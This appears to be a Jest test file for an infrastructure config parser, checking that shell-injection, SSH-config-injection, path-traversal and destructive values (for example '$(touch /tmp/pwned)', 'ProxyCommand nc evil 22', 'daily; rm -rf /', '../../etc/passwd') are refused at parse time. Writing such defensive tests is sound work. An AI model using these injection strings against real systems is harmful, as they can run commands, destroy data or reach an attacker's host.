// Hostile values in the config keys whose values reach a shell, cloud-init's YAML or the
// operator's ~/.ssh/config (the admin user, the Let's Encrypt e-mail, the upstream downloads'
// versions and URLs): each is refused at parse time with the key named, before any resource
// exists (the program throws before its first registration: tests/stacks, "guards at program
// level"). Does not cover the other key families yet (issue 15 lists them).
import * as path from "path";
import {
    ConfigError,
    RawConfig,
    SAFE,
    deployedSettingsOf,
    parseStackConfig,
    plainSecretProblems,
    readStackFile,
    replacementProblems,
} from "../../config";

const root = path.resolve(__dirname, "../..");
const prod = (): RawConfig => ({
    ...readStackFile(root, "prod"),
    backupAccessKeyId: "(secret)",
    backupSecretAccessKey: "(secret)",
});

function problemsOf(raw: RawConfig): string[] {
    try {
        parseStackConfig("prod", raw);
        return [];
    } catch (e) {
        if (e instanceof ConfigError) return [...e.problems];
        throw e;
    }
}

const HOSTILE = [
    "$(touch /tmp/pwned)",
    "`id`",
    'a"; reboot; "',
    "a'b",
    "line\nProxyCommand nc evil 22",
    "a;b",
    "a}b",
    "a b",
    "a\\b",
    "${HOME}",
];

describe("hostile values are refused, naming the key", () => {
    it.each(HOSTILE)("ouvroir:adminUser = %j", (bad) => {
        expect(problemsOf({ ...prod(), adminUser: bad })).toEqual([
            expect.stringMatching(/^ouvroir:adminUser .* is not a user name/),
        ]);
    });
    it.each(HOSTILE.map((h) => `ops${h}@example.org`))("ouvroir:letsencryptEmail = %j", (bad) => {
        expect(problemsOf({ ...prod(), letsencryptEmail: bad })).toEqual([
            expect.stringMatching(/^ouvroir:letsencryptEmail .* is not an e-mail address/),
        ]);
    });
    it.each(HOSTILE.map((h) => `https://mirror.example.org/basex/${h}.zip`))(
        "ouvroir:downloads.basex.url = %j",
        (bad) => {
            expect(problemsOf({ ...prod(), downloads: { basex: { url: bad } } })).toEqual([
                expect.stringMatching(/^ouvroir:downloads\.basex\.url must be a plain https:\/\//),
            ]);
        },
    );
    it.each(HOSTILE.map((h) => `12.0${h}`))("ouvroir:downloads.basex.version = %j", (bad) => {
        expect(problemsOf({ ...prod(), downloads: { basex: { version: bad } } })).toEqual([
            expect.stringMatching(/^ouvroir:downloads\.basex\.version .* is not a version/),
        ]);
    });
    it("an unknown download setting, and a root admin user", () => {
        expect(problemsOf({ ...prod(), downloads: { julia: { sha: "x" } } })).toEqual([
            "ouvroir:downloads.julia.sha is not a download setting; use version, url and sha256.",
        ]);
        expect(problemsOf({ ...prod(), adminUser: "root" })[0]).toMatch(
            /^ouvroir:adminUser "root"/,
        );
    });
});

describe("ordinary values still pass", () => {
    it("the shipped stack files and the defaults", () => {
        expect(problemsOf(prod())).toEqual([]);
        for (const ok of ["debian", "ubuntu", "ops_admin", "a-b"])
            expect(SAFE.userName.test(ok)).toBe(true);
        for (const ok of ["ouvroir-admin@example.org", "first.last+tag@umontreal.ca"])
            expect(SAFE.email.test(ok)).toBe(true);
        for (const ok of [
            "https://files.basex.org/releases/12.0/BaseX120.zip",
            "https://julialang-s3.julialang.org/bin/linux/x64/1.11/julia-1.11.7-linux-x86_64.tar.gz",
            "https://mirror.example.org:8443/a/b_c~d%20e.zip",
        ])
            expect(SAFE.url.test(ok)).toBe(true);
        for (const ok of ["5.0.7", "12.0", "1.11.7", "12.9", "13.0-rc1"])
            expect(SAFE.version.test(ok)).toBe(true);
    });
});

describe("secrets stored in plain text", () => {
    const all = {
        "ouvroir:backupAccessKeyId": "AKIA",
        "ouvroir:backupSecretAccessKey": "s3cr3t",
        "ouvroir:adminUser": "debian",
    };
    it("are refused with the command that encrypts them, the value never repeated", () => {
        const p = plainSecretProblems("prod", all, (k) => k === "ouvroir:backupAccessKeyId");
        expect(p).toEqual([
            "ouvroir:backupSecretAccessKey is stored in plain text in Pulumi.prod.yaml (and so in git): run `pulumi config set --secret ouvroir:backupSecretAccessKey <value> -s prod`, and treat the old value as leaked (rotate it).",
        ]);
        expect(p.join()).not.toContain("s3cr3t");
    });
    it("pass when encrypted or absent", () => {
        expect(plainSecretProblems("prod", all, () => true)).toEqual([]);
        expect(plainSecretProblems("dev", {}, () => false)).toEqual([]);
    });
});

describe("keys, lists and ranges", () => {
    const raw = prod();
    const researcher = (extra: Record<string, unknown>) => ({
        ...raw,
        researchers: [{ name: "alice", sshPublicKeys: [ED25519], ...extra }],
    });
    const ED25519 = (raw.sshPublicKeys as string[])[0] as string;
    it.each([
        "ssh-ed25519 AAAA$(id) x",
        `${ED25519}\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5 second-line`,
        "ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIOuvroirLabOperatorKeyReplaceMe0000000000000 type-mismatch",
        "ssh-dss AAAAB3NzaC1kc3M= old",
        "not a key",
    ])("a researcher key %j", (bad) => {
        expect(problemsOf(researcher({ sshPublicKeys: [bad] }))).toEqual([
            expect.stringMatching(
                /^ouvroir:researchers\[0\]\.sshPublicKeys entry .* is not an OpenSSH public key/,
            ),
        ]);
    });
    it("an operator key that is a private key, or carries a control character", () => {
        expect(
            problemsOf({ ...raw, sshPublicKeys: ["-----BEGIN OPENSSH PRIVATE KEY-----"] }),
        ).toEqual([
            "ouvroir:sshPublicKeys holds a PRIVATE key: remove it now and rotate that key.",
        ]);
        expect(problemsOf({ ...raw, sshPublicKeys: [`${ED25519}\u0007bell`] })[0]).toMatch(
            /^ouvroir:sshPublicKeys entry .* is not an OpenSSH public key/,
        );
    });
    it("unknown keys in a site or a researcher", () => {
        const sites = raw.sites as Record<string, unknown>[];
        expect(problemsOf({ ...raw, sites: [{ ...sites[0], root: "/etc" }] })).toEqual([
            "ouvroir:sites[0].root is not a site setting; use name, domains, kind, upstreamRole, upstreamPort and paths.",
        ]);
        expect(problemsOf(researcher({ shell: "/bin/bash" }))).toEqual([
            "ouvroir:researchers[0].shell is not a researcher setting; use name, sshPublicKeys, cpuPercent and memoryMiB.",
        ]);
    });
    it.each(["0.0.0.0/1", "128.0.0.0/1", "10.0.0.0/7", "::/1", "2001::/16"])(
        "an admin range wider than a /8 (IPv6 /32) in a protected stack: %s",
        (cidr) => {
            expect(problemsOf({ ...raw, adminCidrs: [cidr] })).toEqual([
                expect.stringMatching(/^ouvroir:adminCidrs entry ".*" is wider than a \/(8|32)/),
            ]);
        },
    );
});

describe("checks that used to run only after resources existed now fail the preview", () => {
    const raw = prod();
    const backup = raw.backup as Record<string, unknown>;
    it.each([
        [
            { onCalendar: "daily; rm -rf /" },
            /^ouvroir:backup\.onCalendar: ".*" is not a systemd calendar expression/,
        ],
        [
            { keepDaily: 0, keepWeekly: 0, keepMonthly: 0 },
            /^ouvroir:backup: keepDaily, keepWeekly and keepMonthly are all 0/,
        ],
        [
            { endpoint: "http://object-arbutus.alliancecan.ca" },
            /^ouvroir:backup\.endpoint: keys and data would cross the network in clear: use https/,
        ],
    ])("backup %j", (extra, message) => {
        expect(problemsOf({ ...raw, backup: { ...backup, ...extra } })).toEqual([
            expect.stringMatching(message),
        ]);
    });
    it("a proxy site on the public host name", () => {
        const sites = raw.sites as Record<string, unknown>[];
        const atlas = sites.find((x) => x.kind === "proxy") as Record<string, unknown>;
        expect(
            problemsOf({ ...raw, sites: [{ ...atlas, domains: [raw.publicHostname] }] }),
        ).toEqual([
            expect.stringMatching(
                /^ouvroir:sites\[0\] uses publicHostname .* but is a proxy site: only a static site may/,
            ),
        ]);
    });
    it.each(["../../etc/passwd", "a/b", "..", "dev\nprod"])(
        "a stack to share the allocation with: %j",
        (bad) => {
            expect(problemsOf({ ...raw, sharesAllocationWith: [bad] })).toEqual([
                expect.stringMatching(/^ouvroir:sharesAllocationWith entry .* is not a stack name/),
            ]);
        },
    );
});

describe("changes that replace VMs or data volumes need ouvroir:rebuild", () => {
    const cfg = parseStackConfig("prod", prod());
    const deployed = deployedSettingsOf(cfg);
    it("records what it compares: the private CIDR, the external network, each data volume's type", () => {
        expect(deployed).toEqual({
            privateCidr: "10.30.0.0/24",
            externalNetwork: "",
            dataVolumeTypes: {
                web: "volumes-ssd",
                xmldb: "volumes-ssd",
                iiif: "volumes-ec",
                app: "volumes-ssd",
                sandbox: "volumes-ec",
            },
        });
        expect(replacementProblems(cfg, deployed)).toEqual([]);
        expect(replacementProblems(cfg, {})).toEqual([]);
    });
    it("a data volume's new type is refused unless the role is in ouvroir:rebuild", () => {
        const roles = prod().roles as Record<string, Record<string, unknown>>;
        const raw = {
            ...prod(),
            roles: { ...roles, xmldb: { ...roles.xmldb, dataVolumeType: "volumes-ec" } },
        };
        expect(replacementProblems(parseStackConfig("prod", raw), deployed)).toEqual([
            expect.stringMatching(
                /^ouvroir:roles\.xmldb\.dataVolumeType is "volumes-ec" but the deployed xmldb data volume is "volumes-ssd": a new type replaces the volume and destroys its data/,
            ),
        ]);
        expect(
            replacementProblems(parseStackConfig("prod", { ...raw, rebuild: ["xmldb"] }), deployed),
        ).toEqual([]);
    });
    it("a new private CIDR or external network is refused unless every role is listed", () => {
        const moved = parseStackConfig("prod", {
            ...prod(),
            privateCidr: "10.40.0.0/24",
            externalNetwork: "Other",
        });
        expect(replacementProblems(moved, deployed).map((p) => p.split(" is ")[0])).toEqual([
            "ouvroir:privateCidr",
            "ouvroir:externalNetwork",
        ]);
        const some = parseStackConfig("prod", {
            ...prod(),
            privateCidr: "10.40.0.0/24",
            rebuild: ["web"],
        });
        expect(replacementProblems(some, deployed)).toHaveLength(1);
        const all = parseStackConfig("prod", {
            ...prod(),
            privateCidr: "10.40.0.0/24",
            rebuild: ["web", "xmldb", "iiif", "app", "sandbox"],
        });
        expect(replacementProblems(all, deployed)).toEqual([]);
    });
});
